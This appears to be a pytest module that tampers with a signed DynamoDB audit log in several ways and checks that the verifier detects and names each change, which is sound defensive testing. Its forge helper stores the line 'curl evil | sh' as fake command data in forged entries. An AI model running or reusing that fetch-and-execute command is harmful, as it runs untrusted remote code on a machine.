"""Every kind of tampering, done directly in the table with boto3, is detected and named.

One stack per DynamoDB backend (moto and DynamoDB Local) serves the module;
each test writes its own stream (task) of six entries by a runner and the
control plane, tampers with it, and verifies it.
"""

from __future__ import annotations

import itertools
import json

import pytest

from bzzz import aws
from bzzz.audit import (
    AuditLog,
    Problem,
    Signer,
    entry_hash,
    publish_public_key,
    verify_stream,
)
from bzzz.audit.store import Entry, from_item, to_item
from bzzz.secrets import SecretStore
from tests.fixtures.aws import unique_stack_name

_numbers = itertools.count(1)


class Stack:
    def __init__(self, settings):
        self.settings = settings
        self.db = aws.client("dynamodb", settings)
        self.runner = Signer.generate("agent-1")
        self.control = Signer.generate("control-plane")
        # The verifier reads the control plane's key from the secret and pins it.
        self.secrets = SecretStore(
            settings, {"BZZZ_AUDIT_SIGNING_KEY": self.control.pem().decode()}
        )
        publish_public_key(settings, self.runner)  # the control plane's name is reserved

    def stream(self) -> str:
        """A fresh task stream: create, claim, a command, start, a push, complete."""
        key = f"octo/tamper#{next(_numbers)}"
        control, runner = (
            AuditLog(self.settings, self.control),
            AuditLog(self.settings, self.runner),
        )
        lease = {"attempt": 1, "lease_owner": "agent-1"}
        control.append(key, "task.create", {"state": "queued", "version": 1, "attempt": 1})
        runner.append(key, "task.claim", {"state": "claimed", "version": 2, **lease})
        runner.append(key, "command.run", {"command": "pytest", "exit_code": 0})
        runner.append(key, "task.start", {"state": "running", "version": 3, **lease})
        runner.append(key, "git.push", {"branch": "bzzz/1", "commit": "abc"})
        control.append(key, "task.complete", {"state": "completed", "version": 4, "attempt": 1})
        return key

    def verify(self, key: str):
        return verify_stream(self.settings, key, secrets=self.secrets)

    def item(self, key: str, seq: int) -> dict:
        reply = self.db.get_item(
            TableName=self.settings.audit_table,
            Key={"stream": {"S": key}, "seq": {"N": str(seq)}},
            ConsistentRead=True,
        )
        return reply["Item"]

    def put(self, item: dict) -> None:
        self.db.put_item(TableName=self.settings.audit_table, Item=item)

    def delete(self, key: str, seq: int) -> None:
        self.db.delete_item(
            TableName=self.settings.audit_table,
            Key={"stream": {"S": key}, "seq": {"N": str(seq)}},
        )

    def forge(self, key: str, seq: int, prev_hash: str, signer: Signer, seq_text: str = "") -> dict:
        """A well-formed entry that chains onto `prev_hash`, signed by `signer`."""
        body = {"stream": key, "seq": seq, "ts": 1, "author": signer.author,
                "type": "command.run", "data": {"command": "curl evil | sh"},
                "prev_hash": prev_hash}  # fmt: skip
        item = signed_item(body, signer)
        if seq_text:
            item["seq"] = {"N": seq_text}
        return item


def signed_item(body: dict, signer: Signer | None = None, signature: str = "") -> dict:
    """The item of `body` with its hash recomputed, signed by `signer` (or given `signature`)."""
    digest = entry_hash(body)
    return to_item(Entry(**body, hash=digest, signature=signature or signer.sign(digest)))


@pytest.fixture(
    scope="module",
    params=[
        pytest.param("local_aws", id="moto"),
        pytest.param("dynamodb_local_aws", id="dynamodb-local", marks=pytest.mark.dynamodb_local),
    ],
)
def stack(request) -> Stack:
    backend = request.getfixturevalue(request.param)
    return Stack(backend.settings(backend.provision(unique_stack_name())))


def assert_finding(report, seq, problem, reason_part=""):
    assert report.finding is not None, "tampering went undetected"
    assert (report.finding.seq, report.finding.problem) == (str(seq), problem), report.finding
    assert reason_part in report.finding.reason


def test_untouched_stream_verifies(stack):
    key = stack.stream()
    report = stack.verify(key)
    assert report.ok, report.finding
    assert report.entries == 6
    assert report.head == from_item(stack.item(key, 6)).hash


def test_changed_data_field(stack):
    key = stack.stream()
    item = stack.item(key, 3)
    item["data"] = {"S": json.dumps({"command": "pytest", "exit_code": 1})}
    stack.put(item)
    assert_finding(stack.verify(key), 3, Problem.CHANGED, "a field was altered")


def test_deleted_entry(stack):
    key = stack.stream()
    stack.delete(key, 4)
    assert_finding(stack.verify(key), 5, Problem.MISSING, "seq 4 missing")


def test_swapped_entries(stack):
    key = stack.stream()
    three, four = stack.item(key, 3), stack.item(key, 4)
    three["seq"], four["seq"] = four["seq"], three["seq"]
    stack.put(three)
    stack.put(four)
    assert_finding(stack.verify(key), 3, Problem.REORDERED, "written as seq 4, stored as seq 3")


def test_forged_entry_appended_with_an_unregistered_key(stack):
    key = stack.stream()
    mallory = Signer.generate("mallory")
    AuditLog(stack.settings, mallory).append(key, "git.push", {"branch": "main"})
    assert_finding(stack.verify(key), 7, Problem.UNKNOWN_KEY, "'mallory'")


def test_forged_entry_inserted_mid_stream(stack):
    key = stack.stream()
    # Shift seq 3..6 up by one (from the top, so nothing is overwritten), then forge seq 3.
    for seq in range(6, 2, -1):
        item = stack.item(key, seq)
        item["seq"] = {"N": str(seq + 1)}
        stack.put(item)
    two = from_item(stack.item(key, 2))
    stack.put(stack.forge(key, 3, two.hash, Signer.generate("mallory")))
    assert_finding(stack.verify(key), 3, Problem.INSERTED, "links to seq 2, past this one")


def test_forged_entry_slipped_between_two_seqs(stack):
    key = stack.stream()
    two = from_item(stack.item(key, 2))
    stack.put(stack.forge(key, 2, two.hash, stack.runner, seq_text="2.5"))
    assert_finding(stack.verify(key), "2.5", Problem.INSERTED, "not a whole number")


def test_entry_re_signed_with_a_wrong_key(stack):
    key = stack.stream()
    item = stack.item(key, 4)
    entry = from_item(item)
    item["signature"] = {"S": Signer.generate("agent-1").sign(entry.hash)}
    stack.put(item)
    assert_finding(stack.verify(key), 4, Problem.BAD_SIGNATURE, "'agent-1'")


def test_changed_entry_re_hashed_and_signed_by_a_forged_control_plane(stack):
    key = stack.stream()
    item = stack.item(key, 6)
    entry = from_item(item)
    forged = stack.forge(key, 6, entry.prev_hash, Signer.generate("control-plane"))
    stack.put(forged)
    assert_finding(stack.verify(key), 6, Problem.BAD_SIGNATURE, "'control-plane'")


def test_altered_prev_hash(stack):
    key = stack.stream()
    item = stack.item(key, 5)
    item["prev_hash"] = {"S": "f" * 64}
    stack.put(item)
    assert_finding(stack.verify(key), 5, Problem.CHANGED, "prev_hash altered")


def test_altered_prev_hash_re_hashed(stack):
    key = stack.stream()
    entry = from_item(stack.item(key, 5))
    body = {**entry.body(), "prev_hash": "f" * 64}
    stack.put(signed_item(body, signature=entry.signature))
    assert_finding(stack.verify(key), 5, Problem.CHANGED, "re-linked")


def test_malformed_item(stack):
    key = stack.stream()
    item = stack.item(key, 2)
    item["data"] = {"S": "{not json"}
    stack.put(item)
    assert_finding(stack.verify(key), 2, Problem.CHANGED, "data is not JSON")


def test_control_plane_key_registered_by_someone_else_does_not_displace_the_pinned_one(stack):
    key = stack.stream()
    impostor = Signer.generate("control-plane")
    AuditLog(stack.settings, impostor).append(key, "task.cancel", {"state": "cancelled"})
    assert_finding(stack.verify(key), 7, Problem.BAD_SIGNATURE, "'control-plane'")
